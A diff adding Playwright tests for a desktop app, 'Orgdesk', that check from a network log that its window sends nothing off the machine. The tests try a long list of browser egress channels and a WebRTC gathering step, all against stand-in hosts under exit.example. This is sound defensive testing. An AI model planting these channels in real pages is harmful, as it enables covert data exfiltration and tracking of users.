@@ -1,0 +1,168 @@
+/** Orgdesk sends nothing but what somebody asked a platform for, and its window sends nothing at all. */
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { type App, type Build, startApp } from './support/app.ts';
+import { expect, test } from './support/fixtures.ts';
+import { contactsIn, isLoopback } from './support/net-log.ts';
+
+/** Starts the app, lets `use` work with it, ends it, and answers whom it contacted. */
+async function contactsOf(
+  build: Build,
+  use: (app: App) => Promise<void>,
+): Promise<readonly string[]> {
+  const folder = await mkdtemp(join(tmpdir(), 'orgdesk-network-'));
+  const log = join(folder, 'net-log.json');
+  const app = await startApp({
+    build,
+    switches: [`--log-net-log=${log}`, '--net-log-capture-mode=IncludeSensitive'],
+  });
+  try {
+    await use(app);
+    await app.quit();
+    return await contactsIn(log);
+  } finally {
+    await app.remove();
+    await rm(folder, { recursive: true, force: true });
+  }
+}
+
+const away = (contacts: readonly string[]) => contacts.filter((host) => !isLoopback(host));
+
+test('a start sends nothing to another computer, and the log would show it', async ({
+  build,
+  service,
+}) => {
+  const contacts = await contactsOf(build, async ({ page }) => {
+    const outcome = await page.evaluate(
+      (address) => window.orgdesk.connectAccount({ address, token: 'none', storage: 'session' }),
+      service.url,
+    );
+    expect(outcome).toMatchObject({ ok: false, failure: { kind: 'unauthorized' } });
+  });
+  expect(away(contacts)).toEqual([]);
+  expect(contacts).toContain(new URL(service.url).hostname);
+});
+
+/** Every way in which scripts and markup of a page make others send something, each to a host of its own. */
+async function tryEveryWay(page: Page): Promise<void> {
+  await page.evaluate(async () => {
+    const to = (way: string) => `https://${way}.exit.example`;
+    const element = (name: string, attributes: Readonly<Record<string, string>>) => {
+      const made = document.createElement(name);
+      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
+      document.body.append(made);
+      return made;
+    };
+    const rels = ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'modulepreload'];
+    for (const rel of [...rels, 'stylesheet', 'icon', 'manifest']) {
+      element('link', { rel, href: `${to(rel)}/x` });
+    }
+    element('link', { rel: 'preload', as: 'script', href: `${to('preload')}/x` });
+    for (const name of ['img', 'audio', 'video', 'script', 'embed', 'source', 'track']) {
+      element(name, { src: `${to(name)}/x` });
+    }
+    element('object', { data: `${to('object')}/x` });
+    element('img', { srcset: `${to('srcset')}/x 2x`, attributionsrc: `${to('attribution')}/x` });
+    element('div', { style: `background: url(${to('background')}/x)` });
+    element('svg', {}).innerHTML = `<image href="${to('svg')}/x" /><use href="${to('use')}/x#a" />`;
+    element('style', {}).textContent =
+      `@import url(${to('import')}/x); @font-face { font-family: x; src: url(${to('font')}/x) } body { font-family: x }`;
+    element('script', { type: 'speculationrules' }).textContent = JSON.stringify({
+      prefetch: [{ source: 'list', urls: [`${to('speculation')}/x`] }],
+    });
+    const attempts: readonly (() => unknown)[] = [
+      () => fetch(`${to('fetch')}/x`, { mode: 'no-cors' }),
+      () => fetch(`${to('keepalive')}/x`, { method: 'POST', keepalive: true }),
+      () => navigator.sendBeacon(`${to('beacon')}/x`, 'x'),
+      () => new WebSocket('wss://websocket.exit.example/'),
+      () => new EventSource(`${to('events')}/x`),
+      () => new WebTransport(`${to('webtransport')}:443/`).ready,
+      () => {
+        const request = new XMLHttpRequest();
+        request.open('GET', `${to('xhr')}/x`);
+        request.send();
+      },
+      () => navigator.serviceWorker.register(`${to('service-worker')}/x.js`),
+      () => navigator.serviceWorker.register('/service-worker.js'),
+      () => new Worker(`${to('worker')}/x.js`),
+      () =>
+        new Worker(
+          URL.createObjectURL(new Blob([`fetch('${to('blob-worker')}/x', { mode: 'no-cors' })`])),
+        ),
+      () => import(`${to('module')}/x.js`),
+      () => window.open(`${to('open')}/x`),
+      () => element('a', { href: `${to('link')}/x`, ping: `${to('ping')}/x` }).click(),
+      () => element('a', { href: `${to('download')}/x`, download: 'x' }).click(),
+      () => {
+        const form = element('form', { action: `${to('form')}/x`, method: 'post' });
+        if (form instanceof HTMLFormElement) form.submit();
+      },
+      () => element('meta', { 'http-equiv': 'refresh', content: `0;url=${to('refresh')}/x` }),
+      () => {
+        location.href = `${to('location')}/x`;
+      },
+    ];
+    for (const attempt of attempts) {
+      try {
+        // What fails has sent nothing; what goes on is not waited for.
+        Promise.resolve(attempt()).catch(() => undefined);
+      } catch {
+        // Refused at once.
+      }
+    }
+  });
+}
+
+/** Where page scripts find no WebRTC, a world of its own beside them still has it. */
+async function tryWebRtc(page: Page): Promise<string> {
+  const session = await page.context().newCDPSession(page);
+  const { frameTree } = await session.send('Page.getFrameTree');
+  const { executionContextId } = await session.send('Page.createIsolatedWorld', {
+    frameId: frameTree.frame.id,
+  });
+  const expression = `(async () => {
+    const server = { username: 'a', credential: 'b' };
+    const peer = new RTCPeerConnection({ iceServers: [
+      { urls: 'stun:192.0.2.1:3478' },
+      { urls: 'turn:192.0.2.1:3478?transport=udp', ...server },
+      { urls: 'turn:192.0.2.1:3478?transport=tcp', ...server },
+      { urls: 'turns:192.0.2.1:443?transport=tcp', ...server },
+    ] });
+    peer.createDataChannel('x');
+    const gathered = new Promise((resolve) => { peer.onicecandidate = ({ candidate }) => candidate ?? resolve(); });
+    await peer.setLocalDescription(await peer.createOffer());
+    await gathered;
+    return peer.localDescription.sdp.includes('a=candidate') ? 'found a way' : 'found none';
+  })()`;
+  const { result } = await session.send('Runtime.evaluate', {
+    expression,
+    contextId: executionContextId,
+    awaitPromise: true,
+  });
+  return String(result.value);
+}
+
+test('the window sends nothing, whatever runs in it', async ({ build }) => {
+  const contacts = await contactsOf(build, async ({ page }) => {
+    expect(await page.evaluate(() => typeof Object(globalThis).RTCPeerConnection)).toBe(
+      'undefined',
+    );
+    await tryEveryWay(page);
+    expect(await tryWebRtc(page)).toBe('found none');
+  });
+  expect(away(contacts)).toEqual([]);
+});
+
+test('a page that makes a page inside itself ends, and is loaded again', async ({ app }) => {
+  const { page } = app;
+  const crashed = page.waitForEvent('crash');
+  await page
+    .evaluate(() => document.body.append(document.createElement('iframe')))
+    .catch(() => null);
+  await crashed;
+  await expect.poll(() => app.log()).toContain("The window's page ended");
+  const again = await app.restart().then(() => app.page);
+  expect(await again.evaluate(() => document.readyState)).toBe('complete');
+});
